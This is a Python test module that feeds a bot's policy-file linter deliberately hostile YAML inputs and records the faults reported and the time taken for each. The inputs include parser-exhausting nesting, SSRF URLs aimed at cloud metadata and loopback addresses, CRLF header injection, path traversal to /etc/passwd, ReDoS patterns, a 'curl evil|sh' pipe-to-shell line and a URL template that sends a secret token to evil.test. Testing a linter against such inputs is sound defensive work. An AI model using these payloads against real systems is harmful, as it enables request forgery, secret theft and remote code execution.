"""Policy files from people who mean harm, with what is said to each.

`python -m tests.config.attacks` reads them all in one process, and prints what each came to and how long it took. What
attacks the YAML reader stands byte for byte in `hostile/`, or is made here where it is large.
"""

import json
import sys
import time
from collections.abc import Callable
from pathlib import Path

from bot.config.lint import lint

FOLDER = Path(__file__).with_name("hostile")
UNREADABLE = {path.stem: path for path in sorted(FOLDER.glob("*.yml"))}

FURTHER_DOWN = {
    "bad-indent": 2,
    "bytes-binary": 2,
    "bytes-bom-inside": 2,
    "dup-key": 2,
    "dup-quoted": 2,
    "hundred-docs": 3,
    "tab-indent": 2,
    "unclosed": 2,  # the reader notices behind the end
}
"""The line that is wrong, where it is not the first."""

FAULTY = "{fil: x}, "
LARGE: dict[str, tuple[Callable[[], str], str]] = {
    "deep-seq-1000": (lambda: "[" * 1_000 + "]" * 1_000, "nested deeper"),
    "deep-block-1000": (lambda: "- " * 1_000 + "1", "nested deeper"),
    "deep-map-5000": (lambda: "{a: " * 5_000 + "1" + "}" * 5_000, "nested deeper"),
    "deep-block-5000": (lambda: "- " * 5_000 + "1", "nested deeper"),
    "deep-seq-20000": (lambda: "[" * 20_000 + "]" * 20_000, "nested deeper"),
    "deep-block-20000": (lambda: "- " * 20_000 + "1", "nested deeper"),
    "deep-seq-32000": (lambda: "[" * 32_000 + "]" * 32_000, "nested deeper"),
    "deep-block-32000": (lambda: "- " * 32_000 + "1", "nested deeper"),
    "deep-question": (lambda: "? " * 3_000 + "a", "a key must be a plain word"),
    "size-65537": (lambda: "a: " + "x" * 65_534, "larger than 64 KiB"),
    "size-1mb": (lambda: "a: " + "x" * (1 << 20), "larger than 64 KiB"),
    "nodes-5000": (lambda: f"[{'1,' * 5_000}]", "more than 4000 values"),
    "keys-4001": (lambda: "\n".join(f"k{n}: 1" for n in range(4_001)), "more than 4000 values"),
    "value-64k": (
        lambda: f"version: 1\ncriteria: [{{title: {'x' * 60_000}, tasks: }}]",
        "longer than 16384 characters",
    ),
    "query-64k": (lambda: f"version: 1\ncriteria: [{{metric: {{query: {'a' * 60_000}}}}}]", "longer than 16384"),
    "unknown-keys": (lambda: "version: 1\n" + "".join(f"criteri{n}: 1\n" for n in range(1_990)), "unknown key"),
    "unknown-parameters": (
        lambda: f"version: 1\ncriteria: [{{http: {{{', '.join(f'urll{n}: 1' for n in range(1_900))}}}}}]",
        "'url' is missing",
    ),
    "labels-3900": (lambda: f"version: 1\nlabels: {{resolved: [{'1, ' * 3_900}]}}", "must be text"),
    "faulty-criteria": (
        lambda: "version: 1\nprofiles:\n" + "".join(f"  p{n}: {{criteria: [{FAULTY * 48}]}}\n" for n in range(19)),
        "unknown key 'fil'",
    ),
}
"""Name -> how it is made, and words of its first fault."""

HTTP = "http: {url: 'https://example.com/', "
LOGS = "logs: {workflow: {file: ci.yml, match: regex, absent: "
CRITERIA: dict[str, tuple[str, str]] = {
    "empty": ("{}", "asks nothing"),
    "id-twice": ("{id: a, tasks: }, {id: a, tasks: }", "given to two criteria"),
    "id-empty": ("{id: '', tasks: }", "`id` must be"),
    "id-long": (f"{{id: {'x' * 300}, tasks: }}", "`id` must be"),
    "id-space": ("{id: a b, tasks: }", "`id` must be"),
    "id-int": ("{id: 1, tasks: }", "`id` must be text"),
    "id-mention": ("{id: '@everyone', tasks: }", "`id` must be"),
    "unknown-key": ("{id: a, shell: id}", "unknown key 'shell'"),
    "probe-a-word": ("{id: a, probe: http}", "unknown key 'probe'"),
    "parameters-a-list": ("{id: a, changes: []}", "needs a mapping of parameters"),
    "two-probes": ("{id: a, http: {url: 'https://a.example'}, tcp: {host: a.example, port: 80}}", "one question"),
    "probe-unknown": ("{id: a, ssh: {}}", "unknown key 'ssh'"),
    "timeout-0": (f"{{{HTTP} timeout: 0}}}}", "`timeout` must be more than 0"),
    "timeout-nan": (f"{{{HTTP} timeout: .nan}}}}", "`timeout` must be a number"),
    "timeout-nan-text": (f"{{{HTTP} timeout: 'nan'}}}}", "`timeout` must be a number"),
    "least-nan": ("{file: {path: a.yml, at: a, min: nan}}", "`min` must be a number"),
    "interval-0": (f"{{{HTTP} confirm: {{interval: 0}}}}}}", "`interval` must be at least 1"),
    "status-text": (f"{{{HTTP} status: '200'}}}}", "`status` must be a whole number"),
    "method-connect": (f"{{{HTTP} method: CONNECT}}}}", "must be one of GET, HEAD"),
    "method-crlf": (f'{{{HTTP} method: "GET / HTTP/1.1\\r\\nX: y"}}}}', "must be one of GET, HEAD"),
    "headers-list": (f"{{{HTTP} headers: [a]}}}}", "`headers` must be a mapping"),
    "headers-100": (
        f"{{{HTTP} headers: {{{', '.join(f'h{n}: v' for n in range(100))}}}}}}}",
        "`headers` must be a mapping of at most 10",
    ),
    "url-metadata": ("{http: 'http://169.254.169.254/latest/meta-data/'}", "never asked: name a public one"),
    "url-decimal": ("{http: 'http://2130706433/'}", "unusual spelling"),
    "url-mapped": ("{http: 'http://[::ffff:127.0.0.1]/'}", "never asked: name a public one"),
    "url-gopher": ("{http: 'gopher://127.0.0.1/'}", "must begin with http:// or https://"),
    "url-space": ("{http: 'http://exa mple.com/'}", "must be percent-encoded"),
    "url-crlf": ('{http: "http://example.com/\\r\\nX: y"}', "must be percent-encoded"),
    "url-long": (f"{{http: 'http://example.com/{'a' * 3_000}'}}", "longer than 2048 characters"),
    "url-template": ("{http: 'http://evil.test/?t={{ secrets.TOKEN }}'}", "nothing is filled in here"),
    "header-host": (f"{{{HTTP} headers: {{Host: 127.0.0.1}}}}}}", "written by this server itself"),
    "header-name": (f"{{{HTTP} headers: {{X Y: a}}}}}}", "is no header name"),
    "header-length": (f"{{{HTTP} headers: {{Content-Length: '5'}}}}}}", "written by this server itself"),
    "header-connection": (f"{{{HTTP} headers: {{Connection: upgrade}}}}}}", "written by this server itself"),
    "header-authorization": (
        f"{{{HTTP} headers: {{Authorization: 'Bearer ghp_{'a' * 36}'}}}}}}",
        "let the operator keep its value, and name that with `secret`",
    ),
    "header-metadata": (f"{{{HTTP} headers: {{Metadata-Flavor: Google}}}}}}", "never sent from a policy"),
    "header-not-ascii": (f'{{{HTTP} headers: {{X: "\\u00e9\\u2028"}}}}}}', "printable ASCII"),
    "pattern-reference": (f"{{{LOGS} '(a)\\1'}}}}}}", "not an RE2 pattern"),
    "pattern-ahead": (f"{{{LOGS} '(?=a)b'}}}}}}", "not an RE2 pattern"),
    "pattern-huge": (f"{{{LOGS} '{'a' * 5_000}'}}}}}}", "at most 256 characters"),
    "pattern-repeats": (f"{{{LOGS} '[ab]*a[ab]{{900}}c'}}}}}}", "counted repeats come to more than 200"),
    "pattern-class": (f"{{{LOGS} '\\p{{Nope}}'}}}}}}", "not an RE2 pattern"),
    "pattern-condition": (f"{{{LOGS} '(a)?(?(1)b|c)'}}}}}}", "not an RE2 pattern"),
    "pattern-nul": (f"{{{LOGS} 'a\\0b'}}}}}}", "cannot hold a NUL"),
    "command-shell": ("{command: {run: 'curl evil|sh'}}", "`run` must be"),
    "command-absolute": ("{command: {run: [/bin/sh, -c, id]}}", "`run` must be text"),
    "workflow-elsewhere": ("{workflow: {repo: other/repo, workflow: x.yml}}", "unknown key 'repo'"),
    "workflow-path": ("{workflow: {workflow: ../../x.yml}}", "without its folder"),
    "file-traversal": ("{file: ../../etc/passwd}", "write it without `..`"),
    "file-traversal-windows": ("{file: 'docs\\..\\..\\x'}", "write it without `..`"),
    "file-absolute": ("{file: /etc/passwd}", "write `etc/passwd`"),
    "file-drive": ("{file: 'C:\\Windows\\win.ini'}", "write `Windows/win.ini`"),
    "file-git": ("{file: .git/config}", "name a file of the repository"),
    "file-git-inside": ("{file: 'a/.GIT/hooks'}", "name a file of the repository"),
    "file-control": ('{file: "a\\nb"}', "no path in a repository"),
    "dns-axfr": ("{dns: {name: example.com, type: AXFR}}", "`type` must be one of A, AAAA"),
    "dns-any": ("{dns: {name: example.com, type: ANY}}", "`type` must be one of A, AAAA"),
    "json-search": (f"{{{HTTP} json: {{at: \"$[?search(@,'^(a|aa)+$')]\", equals: 1}}}}}}", "cannot read"),
    "json-descent": (f"{{{HTTP} json: {{at: '$..*..*..*..*..*', equals: 1}}}}}}", "cannot read"),
    "json-other-language": (f"{{{HTTP} json: {{at: '{'[@,@][]|' * 20}', equals: 1}}}}}}", "cannot read"),
    "tls-brackets": ("{tls: {host: '[::1]', port: 443}}", "without a port, a path or square brackets"),
}
"""Name -> the criteria of a list, and words of the first fault. They stand on line 2."""

REFUSED_WHEN_ASKED = {
    "a single name": "{http: 'http://kubernetes/'}",
    "a port": "{tcp: {host: example.com, port: 22}}",
    "loopback": "{websocket: 'ws://127.0.0.1/'}",
    "a private address": "{http: 'http://10.0.0.1/'}",
    "a port of a private address": "{tls: {host: 192.168.0.1}}",
}
"""What an operator may have allowed is no fault of the file."""

TAKEN = {
    "minimal": "version: 1\ncriteria: []",
    "bom": "\ufeffversion: 1\ncriteria: []",
    "crlf": "version: 1\r\ncriteria: []\r\n",
    "json": '{"version": 1, "criteria": [{"id": "c1", "title": "x", "http": {"url": "https://example.com/health"}}]}',
    "comments": "# x\n" * 500 + "version: 1\ncriteria: []",
    "quoted-yes": "version: 1\ncriteria:\n  - id: 'yes'\n    title: 'on'\n    http: https://example.com/\n",
    "block": "version: 1\ncriteria:\n  - id: a\n    title: >-\n      several\n      lines\n    http: https://example.com/",
    "linear-nested": f"version: 1\ncriteria: [{{{LOGS} '(a+)+$'}}}}}}]",
    "linear-choice": f"version: 1\ncriteria: [{{{LOGS} '^(a|aa)+$'}}}}}}]",
    **{f"asked: {name}": f"version: 1\ncriteria: [{text}]" for name, text in REFUSED_WHEN_ASKED.items()},
}

REFUSED = {
    "null": ("null", 1, "the file is empty"),
    "scalar": ("hello", 1, "not a mapping"),
    "no-version": ("criteria: []", 1, "'version' is missing"),
    "version-99": ("version: 99", 1, "only 1 is"),
    "version-bool": ("version: true", 1, "only 1 is"),
    "version-null": ("version: ~", 1, "only 1 is"),
    "version-19-digits": ("version: 1000000000000000000", 1, "only 1 is"),
    "version-octal": ("version: 0o1", 1, "only 1 is"),
    "version-nan": ("version: .nan", 1, "only 1 is"),
    "typo": ("version: 1\ncriterias: []", 2, "unknown key 'criterias'"),
    "proto": ("version: 1\n__proto__: {a: 1}", 2, "unknown key '__proto__'"),
    "criteria-a-word": ("version: 1\ncriteria: x", 2, "criteria must be a list"),
    "criteria-a-map": ("version: 1\ncriteria: {a: 1}", 2, "criteria must be a list"),
}
"""Name -> the text, the line and words of its first fault."""


def attacks() -> dict[str, bytes]:
    """Every file."""
    return {
        **{name: path.read_bytes() for name, path in UNREADABLE.items()},
        **{name: make().encode() for name, (make, _) in LARGE.items()},
        **{name: text.encode() for name, (text, _, _) in REFUSED.items()},
        **{name: f"version: 1\ncriteria: [{text}]".encode() for name, (text, _) in CRITERIA.items()},
        **{name: text.encode() for name, text in TAKEN.items()},
    }


def main() -> None:
    """What each came to, as one JSON object."""
    lint("version: 1\n", path="p")  # what is loaded once is no attack
    told: dict[str, object] = {}
    for name, data in attacks().items():
        started = time.process_time()
        linted = lint(data, path="p")
        taken = time.process_time() - started
        told[name] = {"seconds": taken, "faults": [[fault.line, fault.column, fault.text] for fault in linted.faults]}
    sys.stdout.write(json.dumps(told))


if __name__ == "__main__":
    main()
